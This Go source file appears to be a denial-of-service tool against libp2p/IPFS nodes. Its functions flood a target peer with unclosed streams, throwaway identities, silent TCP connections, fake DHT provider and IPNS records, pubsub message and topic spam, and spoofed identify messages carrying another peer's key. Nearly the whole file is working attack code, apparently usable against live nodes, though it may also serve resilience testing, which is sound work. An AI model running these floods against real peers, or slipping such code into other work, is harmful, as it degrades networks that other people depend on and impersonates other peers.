package main

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"net"
	"strconv"
	"time"

	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/multiformats/go-multiaddr"
	manet "github.com/multiformats/go-multiaddr/net"
)

func toProtocol(name string) protocol.ID { return protocol.ID(name) }

// Takes a stream and reads nothing from it.
func holdStream(ctx context.Context) network.StreamHandler {
	return func(stream network.Stream) {
		<-ctx.Done()
		_ = stream.Reset()
	}
}

// As many streams as can be opened, of every protocol, none of them used or closed.
func floodOfStreams(a *attack) {
	protocols := []protocol.ID{bitswapProtocol, kadProtocol, pubsubProtocol, identifyPush, "/ipfs/ping/1.0.0",
		"/ipfs/bitswap/1.1.0", "/ipfs/bitswap/1.0.0", "/libp2p/autonat/1.0.0", "/ipfs/kad/1.0.0"}
	held := make(chan network.Stream, 1<<20)
	a.many(16, func(i int) error {
		stream, err := a.open(protocols[i%len(protocols)])
		if err != nil {
			return err
		}
		// An optimistic negotiation is carried out at the first write.
		if _, err := stream.Write([]byte{0x01}); err != nil {
			return err
		}
		held <- stream
		if len(held) > 10_000 {
			_ = (<-held).Reset()
		}
		return nil
	})
}

// New identities that connect and go.
func floodOfDials(a *attack) {
	a.fromPeers(16, func(_ int, host host.Host) error {
		if _, err := connect(host, a.address); err != nil {
			return err
		}
		a.count("connections", 1)
		return nil
	})
}

// TCP connections on which nothing is said.
func floodOfHalfDials(a *attack) {
	whole, err := multiaddr.NewMultiaddr(a.address)
	if err != nil {
		a.failed(err)
		return
	}
	tcp, _ := multiaddr.SplitFunc(whole, func(c multiaddr.Component) bool { return c.Protocol().Code == multiaddr.P_P2P })
	_, where, err := manet.DialArgs(tcp)
	if err != nil {
		a.failed(err)
		return
	}
	const heldMax = 2000
	held := make(chan net.Conn, heldMax+32)
	a.many(16, func(int) error {
		connection, err := net.DialTimeout("tcp", where, openTimeMax)
		if err != nil {
			return err
		}
		a.count("silent connections", 1)
		held <- connection
		if len(held) > heldMax {
			_ = (<-held).Close()
		}
		return nil
	})
	close(held)
	for connection := range held {
		_ = connection.Close()
	}
}

const (
	putValue    = 0
	addProvider = 2
)

// Kademlia: message Message { type = 1; key = 2; record = 3; providerPeers = 9; clusterLevel = 10 }.
func kadAddProvider(key, provider []byte, addresses [][]byte) []byte {
	peer := bytesField(nil, 1, provider)
	for _, address := range addresses {
		peer = bytesField(peer, 2, address)
	}
	return bytesField(bytesField(numberField(nil, 1, addProvider), 2, key), 9, peer)
}

func kadPutValue(key, value []byte) []byte {
	record := bytesField(bytesField(nil, 1, key), 2, value)
	return bytesField(bytesField(numberField(nil, 1, putValue), 2, key), 3, record)
}

// Provider records of keys that nobody has, with as many addresses as fit.
func floodOfProviders(a *attack) {
	addresses := [][]byte{}
	for i := range 200 {
		address, _ := multiaddr.NewMultiaddr(fmt.Sprintf("/ip4/10.0.%d.%d/tcp/4001", i/250, i%250))
		addresses = append(addresses, address.Bytes())
	}
	a.onStreams(4, kadProtocol, func(_ int, stream network.Stream) error {
		return a.flood(stream, "provider records", func() []byte {
			return framed(kadAddProvider(randomCid().Hash(), []byte(a.host.ID()), addresses))
		})
	})
}

// Records of names, none of them good.
func floodOfValues(a *attack) {
	a.onStreams(4, kadProtocol, func(_ int, stream network.Stream) error {
		go discardStream(stream)
		return a.flood(stream, "records", func() []byte {
			key := append([]byte("/ipns/"), newName().id...)
			return framed(kadPutValue(key, randomBytes(9000)))
		})
	})
}

// Signed messages with nothing in them, of the topic of a name (words: its PeerID, how many bytes).
func floodOfMessages(a *attack) {
	size, err := strconv.Atoi(a.words[1])
	if err != nil {
		a.failed(err)
		return
	}
	name, err := peer.Decode(a.words[0])
	if err != nil {
		a.failed(err)
		return
	}
	topic := "/record/" + base64.RawURLEncoding.EncodeToString(append([]byte("/ipns/"), name...))
	key := a.host.Peerstore().PrivKey(a.host.ID())
	number := uint64(0)
	a.onStreams(1, pubsubProtocol, func(_ int, stream network.Stream) error {
		subscription := numberField(nil, 1, 1)
		if _, err := stream.Write(framed(bytesField(nil, 1, bytesField(subscription, 2, []byte(topic))))); err != nil {
			return err
		}
		return a.flood(stream, "messages", func() []byte {
			number++
			return framed(bytesField(nil, 2, pubsubMessage(key, []byte(a.host.ID()), number, topic, randomBytes(size))))
		})
	})
}

func pubsubMessage(key crypto.PrivKey, from []byte, number uint64, topic string, data []byte) []byte {
	message := bytesField(nil, 1, from)
	message = bytesField(message, 2, data)
	message = bytesField(message, 3, binary.BigEndian.AppendUint64(nil, number))
	message = bytesField(message, 4, []byte(topic))
	signature, err := key.Sign(append([]byte("libp2p-pubsub:"), message...))
	if err != nil {
		panic(err)
	}
	return bytesField(message, 5, signature)
}

// Listens to topics without end.
func floodOfTopics(a *attack) {
	a.onStreams(1, pubsubProtocol, func(_ int, stream network.Stream) error {
		return a.flood(stream, "messages", func() []byte {
			message := []byte{}
			for range 1000 {
				topic := fmt.Sprintf("%x", randomBytes(32))
				message = bytesField(message, 1, bytesField(numberField(nil, 1, 1), 2, []byte(topic)))
			}
			a.count("topics", 1000)
			return framed(message)
		})
	})
}

// Says of itself what is not so, again and again: another's key, protocols that it does not speak,
// addresses without end.
func identifyLies(a *attack) {
	other := newName()
	message := func() []byte {
		m := bytesField(nil, 1, other.publicKey)
		for range 60 {
			address, _ := multiaddr.NewMultiaddr(fmt.Sprintf("/ip4/127.0.0.1/tcp/%d", 1+time.Now().UnixNano()%65000))
			m = bytesField(m, 2, address.Bytes())
		}
		for _, name := range []string{bitswapProtocol, kadProtocol, "/ipfs/kad/1.0.0", "/libp2p/circuit/relay/0.2.0/hop"} {
			m = bytesField(m, 3, []byte(name))
		}
		for range 20 {
			m = bytesField(m, 3, append([]byte("/"), fmt.Appendf(nil, "%x", randomBytes(20))...))
		}
		m = bytesField(m, 5, []byte("ipfs/0.1.0"))
		return bytesField(m, 6, fmt.Appendf(nil, "%x", randomBytes(500)))
	}
	a.host.SetStreamHandler(identifyGet, func(stream network.Stream) {
		_, _ = stream.Write(framed(message()))
		_ = stream.Close()
	})
	a.many(8, func(int) error {
		stream, err := a.open(identifyPush)
		if err != nil {
			return err
		}
		if _, err := stream.Write(framed(message())); err != nil {
			return err
		}
		a.count("lies", 1)
		return stream.Close()
	})
}
